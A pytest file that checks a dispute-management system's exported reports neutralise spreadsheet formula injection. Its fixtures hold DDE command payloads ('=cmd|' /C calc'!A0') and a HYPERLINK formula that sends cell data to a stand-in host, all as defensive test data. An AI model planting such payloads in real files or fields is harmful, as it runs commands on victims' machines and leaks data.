"""Formula injection in exported reports: typed text reaches a spreadsheet as text, never as a formula.

The ledger, the statistics and the agenda carry titles, party names and unit
names that anyone reporting a case (or naming a unit) typed. Each export is
produced through the real engine on a real database and read back with
openpyxl / the csv module, and no cell may be a formula or start with a
character a spreadsheet would run.
"""

from __future__ import annotations

import csv
import io

import pytest

from tests.conftest import PARTIES
from disputeflow.reports.cells import FORMULA_LEADS, text_cell

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"点击")'
HOSTILE_TITLES = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0"]
HOSTILE_VILLAGE = "=1+2村"


@pytest.fixture
def hostile(engine):
    """Four cases with hostile titles, one with a party named like a formula, in a village named like one."""
    engine.add_unit("v9", HOSTILE_VILLAGE, "village", "t1")
    engine.add_unit("v9-g1", "=HYPERLINK(\"http://x\")网格", "grid", "v9")
    engine.add_user("go9", "=网格员", "grid_officer", "v9-g1")
    parties = [{"name": "=cmd|' /C calc'!A0", "role": "applicant", "phone": "13812348000"}, PARTIES[1]]
    numbers = [engine.report("go9", title=t, category="neighbour", unit="v9-g1", parties=parties, source="grid",
                             description="=1+1").number for t in HOSTILE_TITLES]
    return engine, numbers


def _assert_text_is_inert(value) -> None:
    if isinstance(value, str):
        assert not value.startswith(FORMULA_LEADS) or text_cell(value) == value, repr(value)


def test_the_rule_on_single_cells():
    assert text_cell(HYPERLINK) == "'" + HYPERLINK
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert text_cell(lead + "cmd") == "'" + lead + "cmd"
    assert text_cell("宅基地纠纷") == "宅基地纠纷" and text_cell("") == "" and text_cell(None) is None
    assert text_cell(-3) == -3 and text_cell(2.5) == 2.5 and text_cell(0) == 0  # numbers stay numbers
    assert text_cell("-3") == "-3" and text_cell("-12.5%") == "-12.5%"  # a number written out is no formula
    assert text_cell("'=1") == "'=1"  # applying the rule twice changes nothing


def test_ledger_xlsx_has_no_formula_and_keeps_numbers(hostile):
    from openpyxl import load_workbook

    engine, numbers = hostile
    _, body, _ = engine.report_file("ledger", fmt="xlsx", actor="sup", month="2026-03")
    wb = load_workbook(io.BytesIO(body))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                _assert_text_is_inert(cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    ledger = wb.worksheets[0]
    rows = [[c.value for c in r] for r in ledger.iter_rows(min_row=4)]
    assert sorted(r[2] for r in rows) == sorted("'" + t for t in HOSTILE_TITLES)
    assert all(r[7] == "'" + HOSTILE_VILLAGE for r in rows)
    assert all(r[10].startswith("'=***") for r in rows)  # the masked party name, still neutralised
    assert [r[0] for r in rows] == [1, 2, 3, 4] and all(isinstance(r[19], int) for r in rows)  # numbers stay numeric
    summary = [[c.value for c in r] for r in wb.worksheets[1].iter_rows()]
    village = next(r for r in summary if r[0] == "'" + HOSTILE_VILLAGE)
    assert village[1] == 4 and isinstance(village[1], int)


def test_ledger_and_stats_csv_neutralise_every_cell(hostile):
    engine, numbers = hostile
    for kind in ("ledger", "stats"):
        _, body, _ = engine.report_file(kind, fmt="csv", actor="sup", month="2026-03")
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        for row in rows:
            for value in row:
                _assert_text_is_inert(value)
        cells = {v for row in rows for v in row}
        assert "'" + HOSTILE_VILLAGE in cells
        if kind == "ledger":
            assert {"'" + t for t in HOSTILE_TITLES} <= cells
            assert HYPERLINK not in cells


def test_stats_xlsx_has_no_formula(hostile):
    from openpyxl import load_workbook

    engine, _ = hostile
    _, body, _ = engine.report_file("stats", fmt="xlsx", actor="sup", month="2026-03")
    wb = load_workbook(io.BytesIO(body))
    values = []
    for row in wb.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            _assert_text_is_inert(cell.value)
            values.append(cell.value)
    assert "'" + HOSTILE_VILLAGE in values


def test_agenda_markdown_and_html_and_ledger_html_carry_no_live_formula(hostile):
    engine, _ = hostile
    _, md, _ = engine.report_file("agenda", fmt="md", actor="sup", date="2026-03-03")
    text = md.decode("utf-8")
    cells = [c.strip() for line in text.splitlines() if line.startswith("|") and not line.startswith("|---")
             for c in line.strip("|").split("|")]
    assert "'=HYPERLINK(\"http://x/?\"&A1,\"点击\")" in cells
    for c in cells:
        _assert_text_is_inert(c)
    assert "| =" not in text and "| @" not in text and "| +" not in text
    _, html, _ = engine.report_file("agenda", fmt="html", actor="sup", date="2026-03-03")
    assert ">=HYPERLINK" not in html.decode("utf-8") and "&#39;=HYPERLINK" in html.decode("utf-8")
    _, html, _ = engine.report_file("ledger", fmt="html", actor="sup", month="2026-03")
    page = html.decode("utf-8")
    assert "<td>=" not in page and "<td>@" not in page and "<td>+" not in page and "<td>-2" not in page
    assert "<td>&#39;=1+2村</td>" in page
